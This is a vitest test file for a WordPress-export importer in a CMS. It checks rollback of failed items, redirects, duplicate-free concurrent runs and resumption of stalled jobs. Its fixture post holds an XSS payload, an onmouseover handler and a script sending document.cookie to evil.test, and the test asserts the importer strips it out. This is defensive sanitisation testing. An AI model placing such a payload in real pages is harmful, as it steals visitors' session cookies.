import { eq } from 'drizzle-orm';
import { zipSync } from 'fflate';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { TestClient } from '../../test/client.ts';
import { type Fixture, PASSWORD, seedFixture } from '../../test/fixtures.ts';
import { startTestWarta, type TestWarta } from '../../test/harness.ts';
import { auditLog } from '../audit/schema.ts';
import { konten, kontenRevisi } from '../konten/schema.ts';
import { media } from '../media/schema.ts';
import { runImportJob } from './run-import.ts';
import { imporWp, imporWpAlamat, imporWpObjek } from './schema.ts';
import { settled } from './test-wait.ts';

// The redirects are the last rows of an item's step: failing there proves the step rolls back whole.
// `wpId` limits the failure to one item's step, to stop a run part-way.
const failing = vi.hoisted(() => ({ on: false, wpId: 0 }));
vi.mock('./write-redirects.ts', async (original) => {
  const real = await original<typeof import('./write-redirects.ts')>();
  return {
    ...real,
    writeRedirects: async (...args: Parameters<typeof real.writeRedirects>) => {
      if (failing.on && (!failing.wpId || args[2].some((r) => r.wpId === failing.wpId))) throw new Error('disk penuh (uji)');
      return real.writeRedirects(...args);
    },
  };
});

let w: TestWarta;
let f: Fixture;
let admin: TestClient;

beforeAll(async () => {
  w = await startTestWarta();
  f = await seedFixture(w.services);
  admin = new TestClient(w.app);
  await admin.signIn(f.admin.email, PASSWORD);
  // Starting a database and signing in takes long on a busy machine.
}, 180_000);
afterAll(() => w.stop());

// A small hand-made export: one post whose body carries a script, an event handler and a photo.
const wxr = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/">
<channel><title>Situs Lama</title><link>https://lama.example.go.id</link><wp:base_site_url>https://lama.example.go.id</wp:base_site_url>
<wp:author><wp:author_login><![CDATA[redaksi]]></wp:author_login><wp:author_email><![CDATA[redaksi@lama.test]]></wp:author_email><wp:author_display_name><![CDATA[Redaksi]]></wp:author_display_name></wp:author>
<item><title><![CDATA[Jembatan Baru Dibuka]]></title><link>https://lama.example.go.id/2025/02/jembatan-baru-dibuka/</link><guid isPermaLink="false">https://lama.example.go.id/?p=5</guid>
<dc:creator><![CDATA[redaksi]]></dc:creator>
<content:encoded><![CDATA[<p onmouseover="steal()">Jembatan dibuka hari ini.<script>fetch('https://evil.test/'+document.cookie)</script></p><p><img class="wp-image-9" src="https://lama.example.go.id/wp-content/uploads/2025/02/jembatan-1024x576.jpg" alt="Jembatan di atas sungai"></p>]]></content:encoded>
<excerpt:encoded><![CDATA[]]></excerpt:encoded><wp:post_id>5</wp:post_id><wp:post_date><![CDATA[2025-02-03 09:00:00]]></wp:post_date><wp:post_date_gmt><![CDATA[2025-02-03 01:00:00]]></wp:post_date_gmt>
<wp:post_name><![CDATA[jembatan-baru-dibuka]]></wp:post_name><wp:status><![CDATA[publish]]></wp:status><wp:post_parent>0</wp:post_parent><wp:post_type><![CDATA[post]]></wp:post_type></item>
<item><title><![CDATA[jembatan]]></title><wp:post_id>9</wp:post_id><wp:post_type><![CDATA[attachment]]></wp:post_type><wp:status><![CDATA[inherit]]></wp:status><wp:post_parent>5</wp:post_parent>
<wp:attachment_url><![CDATA[https://lama.example.go.id/wp-content/uploads/2025/02/jembatan.jpg]]></wp:attachment_url></item>
</channel></rss>`;

async function upload(zip: Buffer, unitId = f.unitA.id, xml = wxr) {
  const form = new FormData();
  form.set('unitId', unitId);
  form.set('wxr', new File([xml], 'ekspor.xml'));
  form.set('arsip', new File([new Uint8Array(zip)], 'uploads.zip'));
  const res = await w.app.request('/api/impor-wp', { method: 'POST', body: form, headers: { cookie: admin.cookie!, 'x-csrf-token': admin.csrf! } });
  return { status: res.status, body: await res.json() };
}

/** Queues the real run and waits for its job, as the admin screen does. */
async function run(id: string, mapping: unknown) {
  const queued = await admin.post(`/api/impor-wp/${id}/jalankan`, { mapping });
  expect(queued.status).toBe(202);
  return settled(admin, id);
}

describe('each item is all or nothing; a stopped run fails cleanly and resumes', () => {
  it('a failure after the photos were stored marks the import failed with a message, rolls the item back and deletes those photos; the next run succeeds', {
    timeout: 120_000,
  }, async () => {
    const photo = await sharp({ create: { width: 800, height: 450, channels: 3, background: '#58a' } })
      .jpeg()
      .toBuffer();
    const zip = Buffer.from(zipSync({ 'uploads/2025/02/jembatan.jpg': photo, 'uploads/2025/02/jembatan-1024x576.jpg': photo }));
    const up = await upload(zip);
    expect(up.status).toBe(201);
    const mapping = up.body.mapping;
    expect((await admin.post(`/api/impor-wp/${up.body.id}/uji`, { mapping })).status).toBe(202);
    expect((await settled(admin, up.body.id)).laporan!.counts).toMatchObject({ posts: 1, images: 1, rowsWithErrors: 0 });

    failing.on = true;
    const failed = await run(up.body.id, mapping);
    expect(failed).toMatchObject({ status: 'gagal', galat: expect.stringMatching(/berhenti karena gangguan/), progres: { hasil: { baru: 0, media: 0 } } });
    const [stopped] = await w.services.db.select().from(auditLog).where(eq(auditLog.action, 'impor_wp.gagal'));
    expect(stopped).toMatchObject({ entityId: up.body.id, after: { status: 'gagal', galat: 'impor_wp.failed' } });
    expect(JSON.stringify(stopped!.after)).not.toContain('disk penuh');
    expect(await w.services.db.select().from(konten)).toHaveLength(0);
    expect(await w.services.db.select().from(imporWpObjek)).toHaveLength(0);
    expect(await w.services.db.select().from(imporWpAlamat)).toHaveLength(0);
    expect(await w.services.db.select().from(media)).toHaveLength(0);

    failing.on = false;
    const ok = await run(up.body.id, mapping);
    expect(ok).toMatchObject({ status: 'selesai', galat: null, laporan: { hasil: { baru: 1, media: 1 } } });
    const [item] = await w.services.db.select().from(konten);
    const [revisi] = await w.services.db.select().from(kontenRevisi);
    const [foto] = await w.services.db.select().from(media);
    expect(item).toMatchObject({ status: 'terbit', slug: 'jembatan-baru-dibuka', publishedAt: new Date('2025-02-03T01:00:00Z') });
    // The script and the handler are gone; the size copy in the body became the original photo.
    expect(JSON.stringify(revisi!.isi)).not.toMatch(/script|steal|evil|cookie/);
    expect(revisi!.isi.content).toEqual([
      { type: 'paragraph', content: [{ type: 'text', text: 'Jembatan dibuka hari ini.' }] },
      { type: 'mediaImage', attrs: { mediaId: foto!.id, caption: null } },
    ]);
    expect(foto).toMatchObject({ altText: 'Jembatan di atas sungai', state: 'siap' });
    const moved = await w.app.request('/2025/02/jembatan-baru-dibuka/', { headers: { host: 'ujiprov.go.id' } });
    expect(moved.status).toBe(301);
    expect(moved.headers.get('location')).toBe('/dinas-a/berita/umum/jembatan-baru-dibuka');
    const page = await w.app.request('/dinas-a/berita/umum/jembatan-baru-dibuka', { headers: { host: 'ujiprov.go.id' } });
    const html = await page.text();
    expect(html).toContain('Jembatan dibuka hari ini.');
    expect(html).not.toContain('evil.test');
  });

  it('on a unit with its own host, the old address moves to the page on that host; the pemda host gets the prefixed path', { timeout: 120_000 }, async () => {
    const photo = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#a85' } })
      .jpeg()
      .toBuffer();
    const up = await upload(Buffer.from(zipSync({ 'uploads/2025/02/jembatan.jpg': photo })), f.unitB.id);
    expect(up.status).toBe(201);
    const ok = await run(up.body.id, up.body.mapping);
    expect(ok.laporan!.hasil).toMatchObject({ baru: 1, media: 1 });
    const onHost = await w.app.request('/?p=5', { headers: { host: 'badanb.ujiprov.go.id' } });
    expect([onHost.status, onHost.headers.get('location')]).toEqual([301, '/berita/umum/jembatan-baru-dibuka']);
    const onPemda = await w.app.request('/jembatan-baru-dibuka', { headers: { host: 'ujiprov.go.id' } });
    expect([onPemda.status, onPemda.headers.get('location')]).toEqual([301, '/badan-b/berita/umum/jembatan-baru-dibuka']);
  });

  it('two runs of the same site at once never duplicate: the later one updates what the first added', { timeout: 120_000 }, async () => {
    const other = wxr.replaceAll('lama.example.go.id', 'lain.example.go.id');
    const zip = Buffer.from(zipSync({ 'uploads/readme.txt': Buffer.from('bukan gambar') }));
    const before = (await w.services.db.select().from(konten)).length;
    const [a, b] = await Promise.all([upload(zip, f.unitA.id, other), upload(zip, f.unitA.id, other)]);
    const results = await Promise.all([a, b].map((u) => run(u.body.id, u.body.mapping)));
    expect(results.map((r) => r.status)).toEqual(['selesai', 'selesai']);
    expect(results.map((r) => r.laporan!.hasil!.baru).sort()).toEqual([0, 1]);
    expect((await w.services.db.select().from(konten)).length).toBe(before + 1);
  });

  it('a run stopped part-way keeps its finished items whole; after a restart the job resumes and adds nothing twice; a live job is left alone', {
    timeout: 120_000,
  }, async () => {
    // Three posts of a third site, no photos.
    const three = wxr
      .replaceAll('lama.example.go.id', 'tiga.example.go.id')
      .replace(/<item><title><!\[CDATA\[jembatan\]\]>[\s\S]*?<\/item>/, '')
      .replace(/<p><img[^>]*><\/p>/, '');
    const post = /<item>[\s\S]*?<\/item>/.exec(three)![0];
    const copies = [2, 3].map((n) =>
      post
        .replaceAll('<wp:post_id>5</wp:post_id>', `<wp:post_id>${n * 10}</wp:post_id>`)
        .replaceAll('jembatan-baru-dibuka', `jembatan-${n}`)
        .replace('Jembatan Baru Dibuka', `Jembatan ${n}`)
        .replace('?p=5', `?p=${n * 10}`),
    );
    const xml = three.replace('</channel>', `${copies.join('')}</channel>`);
    const zip = Buffer.from(zipSync({ 'uploads/readme.txt': Buffer.from('kosong') }));
    const up = await upload(zip, f.unitA.id, xml);
    expect(up.status).toBe(201);
    const mine = () => w.services.db.select().from(imporWpObjek).where(eq(imporWpObjek.imporId, up.body.id));

    // The second item's step fails: the first stays, whole; the second and third are not there.
    failing.on = true;
    failing.wpId = 20;
    const stopped = await run(up.body.id, up.body.mapping);
    failing.on = false;
    failing.wpId = 0;
    expect(stopped).toMatchObject({ status: 'gagal', progres: { tahap: 'entri', selesai: 1, total: 3, hasil: { baru: 1 } } });
    expect(await mine()).toHaveLength(1);

    // A process that died mid-run: the row still says running, its lease ran out.
    await w.services.db
      .update(imporWp)
      .set({ status: 'berjalan', leaseUntil: new Date(Date.now() - 1000) })
      .where(eq(imporWp.id, up.body.id));
    // A job whose lease is still live is not taken over.
    const live = new Date(Date.now() + 60_000);
    await w.services.db.update(imporWp).set({ leaseUntil: live }).where(eq(imporWp.id, up.body.id));
    await runImportJob(w.services, up.body.id);
    const [untouched] = await w.services.db.select().from(imporWp).where(eq(imporWp.id, up.body.id));
    expect(untouched).toMatchObject({ status: 'berjalan', leaseUntil: live });
    expect((await admin.post(`/api/impor-wp/${up.body.id}/jalankan`, { mapping: up.body.mapping })).status).toBe(409);

    await w.services.db
      .update(imporWp)
      .set({ leaseUntil: new Date(Date.now() - 1000) })
      .where(eq(imporWp.id, up.body.id));
    await runImportJob(w.services, up.body.id);
    const resumed = await settled(admin, up.body.id);
    expect(resumed).toMatchObject({ status: 'selesai', laporan: { hasil: { baru: 3, diperbarui: 0, tetap: 0 } }, progres: { selesai: 3, total: 3 } });
    expect(await mine()).toHaveLength(3);
    const items = await w.services.db.select().from(konten);
    expect(
      items
        .filter((k) => /^jembatan-\d$/.test(k.slug))
        .map((k) => k.slug)
        .sort(),
    ).toEqual(['jembatan-2', 'jembatan-3']);
    const moved = await w.app.request('/?p=30', { headers: { host: 'ujiprov.go.id' } });
    expect([moved.status, moved.headers.get('location')]).toEqual([301, '/dinas-a/berita/umum/jembatan-3']);
  });

  it('an import left running by a job that stopped renewing its lease can be started again from the screen', { timeout: 120_000 }, async () => {
    const stalled = wxr.replaceAll('lama.example.go.id', 'macet.example.go.id').replaceAll('jembatan-baru-dibuka', 'jembatan-macet');
    const up = await upload(Buffer.from(zipSync({ 'uploads/readme.txt': Buffer.from('kosong') })), f.unitA.id, stalled);
    expect(up.status).toBe(201);
    await w.services.db
      .update(imporWp)
      .set({ status: 'berjalan', tugas: 'impor', leaseUntil: new Date(Date.now() - 1000) })
      .where(eq(imporWp.id, up.body.id));
    const restarted = await run(up.body.id, up.body.mapping);
    expect(restarted).toMatchObject({ status: 'selesai', laporan: { hasil: { baru: 1 } } });
  });
});
